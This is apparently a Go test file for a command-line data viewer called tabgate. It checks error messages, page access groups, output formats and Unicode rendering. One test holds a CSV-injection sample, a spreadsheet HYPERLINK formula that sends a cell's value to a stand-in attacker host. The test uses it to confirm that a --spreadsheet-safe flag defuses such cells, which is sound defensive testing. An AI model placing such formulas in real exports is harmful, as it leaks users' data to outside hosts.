package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"
)

func TestShowSaysWhyAPageHasNothingToShow(t *testing.T) {
	tests := map[string]struct {
		args   []string
		config string
		code   int
		says   string
		prints string // "" = nothing on stdout
	}{
		"a country that is none, as data":  {[]string{"--format", "csv", "--countries", "China,Atlantis"}, "", exitFailed, "Atlantis", ""},
		"a country that is none, as text":  {[]string{"--countries", "China,Atlantis"}, "", exitFailed, "Atlantis", "China"},
		"a country that is none, as a svg": {[]string{"--format", "svg", "--countries", "China,Atlantis"}, "", exitFailed, "Atlantis", "<svg"},
		"no country, as data":              {[]string{"--format", "csv", "--countries", ""}, "", exitFailed, "Please select at least one country.", ""},
		"no country, as text":              {[]string{"--countries", ""}, "", exitDone, "", "Please select at least one country."},
		"a folder as a file":               {[]string{"--data", "."}, "", exitFailed, "cannot be read: it is a", ""},
		"a country by its other name":      {[]string{"--format", "csv", "--countries", "United States of America"}, "", exitDone, "", "United States"},
		"a file that is not there":         {[]string{"--format", "json", "--data", "nowhere.csv"}, "", exitFailed, "nowhere.csv", ""},
		"a file that is not there, drawn":  {[]string{"--data", "nowhere.csv"}, "", exitFailed, "nowhere.csv", ""},
		"no network and no copy":           {[]string{"--format", "csv"}, "https://data.example.com/own.csv", exitNetwork, "offline", ""},
		"no network and no copy, drawn":    {nil, "https://data.example.com/own.csv", exitNetwork, "offline", "This demo requires internet access."},
		"nothing amiss":                    {[]string{"--format", "csv", "--countries", "China"}, "", exitDone, "", "Region,1961"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			p := newPlace(t)
			p.env["TABGATE_OFFLINE"] = "true"
			args := append([]string{"show", "dataframe"}, tt.args...)
			if tt.config != "" {
				path := p.write("config.yaml", "data:\n  agriculture: "+tt.config+"\n")
				args = append([]string{"--config", path}, args...)
			}
			got := p.run(args...)
			if got.code != tt.code || !strings.Contains(got.err, tt.says) {
				t.Errorf("exit %d, want %d: %q does not say %q", got.code, tt.code, got.err, tt.says)
			}
			if tt.prints == "" && got.out != "" || !strings.Contains(got.out, tt.prints) {
				t.Errorf("printed %q, want %q", got.out, tt.prints)
			}
		})
	}
}

func TestD1ExportedValuesAreExactAndSafeForSpreadsheetsOnRequest(t *testing.T) {
	const rows = "name,change,note\n" +
		"=HYPERLINK(\"\"http://evil.example/?\"\"&B2),-12.5,plain\n" +
		"@SUM(A1),+3,\"a;=b\"\n" + "-2+3,-1e-9,\"two\nlines\"\n" + "\"\tx\",,=\n"
	p := newPlace(t)
	file := p.write("own.csv", strings.Replace(rows, "=HYPERLINK(\"\"http://evil.example/?\"\"&B2)", "\"=HYPERLINK(\"\"http://evil.example/?\"\"&B2)\"", 1))
	read := func(args ...string) [][]string {
		t.Helper()
		got := p.run(append([]string{"show", "dataframe", "--format", "csv", "--data", file}, args...)...)
		cells, err := csv.NewReader(strings.NewReader(got.out)).ReadAll()
		if got.code != exitDone || err != nil || got.err != "" {
			t.Fatalf("exit %d, %v: %s", got.code, err, got.err)
		}
		return cells
	}
	exact := [][]string{
		{"name", "change", "note"}, {"=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
		{"@SUM(A1)", "3", "a;=b"}, {"-2+3", "-1e-9", "two\nlines"}, {"\tx", "", "="},
	}
	if got := read(); !slices.EqualFunc(got, exact, slices.Equal) {
		t.Errorf("D-1 exact: %q", got)
	}
	safe := [][]string{
		{"name", "change", "note"}, {"'=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
		{"'@SUM(A1)", "3", "a;'=b"}, {"'-2+3", "-1e-9", "two\nlines"}, {"'\tx", "", "'="},
	}
	if got := read("--spreadsheet-safe"); !slices.EqualFunc(got, safe, slices.Equal) {
		t.Errorf("D-1 safe: %q", got)
	}
	plain := p.run("show", "plotting", "--format", "csv", "--spreadsheet-safe")
	if plain.code != exitNotSignedIn || plain.out != "" {
		t.Errorf("the lock: exit %d, %q", plain.code, plain.out)
	}
	for _, format := range []string{"json", "text", "svg"} {
		if got := p.run("show", "dataframe", "--format", format, "--spreadsheet-safe"); got.code != exitUsage || !strings.Contains(got.err, "--format csv") {
			t.Errorf("%s: exit %d, %s", format, got.code, got.err)
		}
	}
}

// Nobody can press a key of a frame that is in a file or a pipe.
func TestShowDrawsNoButtonsAndHints(t *testing.T) {
	p := newPlace(t)
	p.onPool()
	p.env["TABGATE_OFFLINE"] = "true"
	path := p.write("config.yaml", "pages: {plotting: {groups: []}, mapping: {groups: []}}\n")
	file := p.write("ports.csv", "port,ships\nGenoa,12\n")
	controls := regexp.MustCompile(`Log in|log in or out|Getting around|Re-run|Pause|Export|choose|clear|/ search|y copy|colours|try again|shift\+arrows|›|China ×`)
	for _, args := range [][]string{{"home"}, {"plotting"}, {"mapping"}, {"dataframe"}, {"dataframe", "--data", file}} {
		for _, size := range []string{"40x12", "80x24", "120x40", "200x60"} {
			got := p.run(append([]string{"--config", path, "show", "--size", size}, args...)...)
			if found := controls.FindString(got.out); got.code != exitDone || found != "" {
				t.Errorf("%v at %s: exit %d, %q in\n%s", args, size, got.code, found, got.out)
			}
		}
	}
}

func TestShowRefusesTheFlagsOfOtherPages(t *testing.T) {
	p := newPlace(t)
	for says, args := range map[string][]string{
		"home has no --data, which is for mapping, dataframe": {"home", "--data", "x.csv"},
		"dataframe has no --seed, which is for plotting":      {"dataframe", "--seed", "7"},
		"mapping has no --countries, which is for dataframe":  {"mapping", "--countries", "China"},
	} {
		if got := p.run(append([]string{"show"}, args...)...); got.code != exitUsage || !strings.Contains(got.err, says) {
			t.Errorf("%v: exit %d: %s", args, got.code, got.err)
		}
	}
}

// A file that no page can use is one line, whatever it is.
func TestShowOfAFileThatCannotBeUsedIsOneLine(t *testing.T) {
	p := newPlace(t)
	path := p.write("config.yaml", "pages: {mapping: {groups: []}}\n")
	passwd := p.write("passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")
	for name, args := range map[string][]string{
		"no places in it": {"mapping", "--data", passwd}, "binary": {"dataframe", "--data", p.write("a.bin", "\x00\x01\x02\x03\x04")},
		"a folder": {"mapping", "--data", p.home}, "nothing": {"dataframe", "--data", p.write("empty.csv", "")},
	} {
		for _, format := range []string{"text", "ansi", "svg", "csv", "json"} {
			got := p.run(append([]string{"--config", path, "show", "--format", format}, args...)...)
			if got.code != exitFailed || got.out != "" || strings.Count(got.err, "\n") != 1 {
				t.Errorf("%s as %s: exit %d, %q, %q", name, format, got.code, got.out, got.err)
			}
		}
	}
}

// Who has no user pool is told so at once, and not sent to a login that cannot
// be.
func TestShowOfALockedPageWithoutAUserPoolNamesTheWaysOn(t *testing.T) {
	got := newPlace(t).run("show", "plotting")
	if got.code != exitNotSignedIn || !strings.Contains(got.err, "needs the group Underwriters: "+notConfigured) || strings.Contains(got.err, "tabgate login") {
		t.Errorf("exit %d: %s", got.code, got.err)
	}
}

func TestJSONIsPrintedWithoutIndentation(t *testing.T) {
	p := newPlace(t)
	p.onPool()
	path := p.write("config.yaml", "pages: {plotting: {groups: []}, mapping: {groups: []}}\n")
	file := p.write("ports.csv", "port,ships\nGenoa,12\nPiraeus,40\n")
	for _, args := range [][]string{
		{"whoami", "--json"}, {"pages", "--json"}, {"doctor", "--json"}, {"inspect", "--json", file},
		{"show", "plotting", "--format", "json"}, {"show", "mapping", "--format", "json"}, {"show", "dataframe", "--format", "json"},
		{"show", "dataframe", "--format", "json", "--data", file},
	} {
		got := p.run(append([]string{"--config", path, "--offline"}, args...)...)
		var dense bytes.Buffer
		if err := json.Compact(&dense, []byte(got.out)); err != nil || strings.ReplaceAll(got.out, "\n", "") != dense.String() || !strings.HasSuffix(got.out, "\n") {
			t.Errorf("%v: exit %d, %v: %.300s", args, got.code, err, got.out)
		}
	}
}

func TestPagesSayWhoMayOpenThem(t *testing.T) {
	p := newPlace(t)
	path := p.write("config.yaml", "pages:\n  plotting: {groups: []}\n  mapping: {groups: [\"*\"]}\n  dataframe: {groups: [A, B]}\n")
	got := p.run("--config", path, "pages")
	for id, want := range map[string]string{
		"plotting": "Plotting Demo   anyone            open", "mapping": "Mapping Demo    anyone signed in  sign in first",
		"dataframe": "DataFrame Demo  A, B              sign in first",
	} {
		if !strings.Contains(got.out, want) {
			t.Errorf("%s should be %q in\n%s", id, want, got.out)
		}
	}
	words := map[string]string{}
	for _, a := range decode[[]access](t, p.run("--config", path, "pages", "--json").out) {
		words[a.ID] = a.Access + strings.Join(a.Groups, "+")
	}
	if words["plotting"] != "open" || words["mapping"] != "sign_in*" || words["dataframe"] != "sign_inA+B" {
		t.Errorf("got %v", words)
	}
	for id, want := range map[string]string{"mapping": "needs somebody signed in", "dataframe": "needs one of the groups A, B"} {
		if got := p.run("--config", path, "show", id); got.code != exitNotSignedIn || !strings.Contains(got.err, want) {
			t.Errorf("show %s: exit %d, %s", id, got.code, got.err)
		}
	}
}

func TestShowKeepsTheLettersOfEveryScript(t *testing.T) {
	p := newPlace(t)
	names := []string{"हिन्दी", "ไทย ที่", "👩‍👩‍👧", "🇩🇪", "cafe\u0301", "می\u200cخواهم"}
	file := p.write("names.csv", "Region,1961,1962\n"+strings.Join(names, ",1,2\n")+",1,2\n")
	for format, around := range map[string][2]string{"text": {"", " "}, "ansi": {"", " "}, "svg": {">", "<"}} {
		got := p.run("show", "dataframe", "--data", file, "--countries", strings.Join(names, ","), "--format", format, "--size", "100x30")
		for _, name := range names {
			whole := around[0] + name + around[1]
			if format == "svg" && name == names[0] {
				whole = ">हि<" // a syllable is fitted to its cells
			}
			if got.code != exitDone || !strings.Contains(got.out, whole) {
				t.Errorf("%s: exit %d, no %q in\n%s", format, got.code, whole, got.out)
			}
		}
	}
}

func TestShowReadsAFileByTheFormatsThatOnlyFilesHave(t *testing.T) {
	p := newPlace(t)
	file := p.write("ports.txt", "port\tships\nGenoa\t12\n")
	for _, tt := range []struct {
		args []string
		code int
		says string
	}{
		{[]string{"--format", "tsv"}, exitDone, ""},
		{[]string{"--data-format", "tsv", "--format", "csv"}, exitDone, ""},
		{[]string{"--format", "parquet"}, exitUsage, "it is text, which the format parquet does not suit"},
		{[]string{"--data-format", "parquet", "--format", "csv"}, exitUsage, "it is text, which the format parquet does not suit"},
		{[]string{"--format", "tsv", "--data-format", "csv"}, exitUsage, "pass one"},
		{[]string{"--format", "pdf"}, exitUsage, "--format is text, ansi, svg, csv or json"},
	} {
		got := p.run(append([]string{"show", "dataframe", "--data", file}, tt.args...)...)
		if got.code != tt.code || !strings.Contains(got.err, tt.says) || tt.code == exitDone && !strings.Contains(got.out, "Genoa") || tt.code != exitDone && got.out != "" {
			t.Errorf("%v: exit %d, %q, %q", tt.args, got.code, got.out, got.err)
		}
	}
	if got := p.run("show", "dataframe", "--format", "tsv"); got.code != exitUsage {
		t.Errorf("without a file: exit %d", got.code)
	}
}
